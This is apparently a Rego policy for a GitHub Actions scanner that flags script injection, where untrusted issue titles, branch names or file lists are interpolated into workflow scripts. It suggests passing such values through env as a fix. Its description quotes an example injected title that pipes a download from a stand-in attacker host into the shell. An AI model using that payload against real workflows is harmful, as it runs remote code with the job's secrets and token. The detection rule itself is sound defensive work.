# METADATA
# title: Text of strangers is run as a program
# description: |
#   An expression is put into the script before the shell reads it. Whoever opens an issue or a pull request with a
#   title such as `"; curl evil.example | sh #` runs commands with the secrets and the token of the job.
# related_resources:
#   - ref: https://docs.github.com/en/actions/reference/security/secure-use#understanding-the-risk-of-script-injections
#     description: Script injections
# schemas:
#   - input: schema.review
# custom:
#   severity: critical
#   remediation: >-
#     Hand the value over in `env` and use it as a quoted variable: `env: {TITLE: ${{ github.event.issue.title }}}`,
#     `run: echo "$TITLE"`.
#   resources:
#     - workflow
#     - action
#   topics:
#     - gha-script-injection
#   frameworks:
#     nist-800-53:
#       - "SI-10"
#     openssf-scorecard:
#       - "Dangerous-Workflow"
#     owasp-cicd:
#       - "CICD-SEC-4"
package policies.github_actions.script_injection

import data.policies.lib.actions
import data.policies.lib.actions_flow
import data.policies.lib.finding

deny contains finding.on(script.resource, script.path, message) if {
	some script in actions.scripts
	some expression in actions.expressions(script.text)

	_is_foreign(script, expression)
	not _is_written_by_writers(script, expression)
	message := $"{script.resource.address} runs {expression}, which strangers write; expected it in env, as a variable"
}

# What a push brings may be a stranger's still, merged with the words of its author.
_is_written_by_writers(script, expression) if {
	actions.is_for_writers(script.step)
	not contains(expression, "commit")
}

_is_foreign(_, expression) if actions.is_tainted(expression)

# Outputs and variables that hold the text are as bad where an expression puts them into the script.
_is_foreign(script, expression) if actions_flow.carries(script.step, expression)

# So does what a matrix takes from there.
_is_foreign(script, expression) if {
	startswith(expression, "matrix.")
	walk(script.job.strategy.matrix, [path, value])
	is_string(value)
	some name in path
	is_string(name)
	lower($"matrix.{name}") == expression
	actions.has_taint(value)
}

# What lists changed files or looks up a branch gives names that strangers choose, in a pull request.
_is_foreign(script, expression) if {
	actions.lists_changes(script, expression)
	count(actions.triggers(script.resource) - actions.after_review) > 0
}

_is_foreign(script, expression) if {
	script.resource.type == "action"
	actions.lists_changes(script, expression)
}
